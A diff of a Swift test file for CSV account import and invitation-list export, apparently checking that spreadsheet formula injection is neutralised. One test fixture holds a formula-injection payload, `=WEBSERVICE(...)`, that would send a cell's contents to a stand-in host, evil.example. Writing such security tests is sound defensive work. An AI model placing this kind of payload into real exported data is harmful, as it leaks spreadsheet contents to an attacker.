@@ -39,7 +39,7 @@ import Web
                 ["1", "Café; Zoé, fils", "", "z@cafe.example", "Zoé", "fr"],
             ], separator: separator)
         #expect(list.hasPrefix(CSVWriter.mark))
-        let accounts = try AccountFile(Array(list.utf8), brand: brand, world: .random)
+        let accounts = try AccountFile(Array(list.utf8), brand: brand, world: .random).checked()
         #expect(accounts.encoding == .utf8)
         #expect(accounts.entries.map(\.new.account.company) == ["Café; Zoé, fils"])
     }
@@ -49,7 +49,7 @@ import Web
         let file =
             "number,company,phone,email,name,language\n"
             + "1,\"=WEBSERVICE(\"\"https://evil.example/\"\"&F2)\",,a@x.example,-A,en\n"
-        let accounts = try AccountFile(Array(file.utf8), brand: brand, world: .random)
+        let accounts = try AccountFile(Array(file.utf8), brand: brand, world: .random).checked()
         let list = InvitationList(
             accounts.entries.map { ($0.new, $0.invitation) }, brand: brand,
             at: PublicAddress(scheme: "https", port: 443))
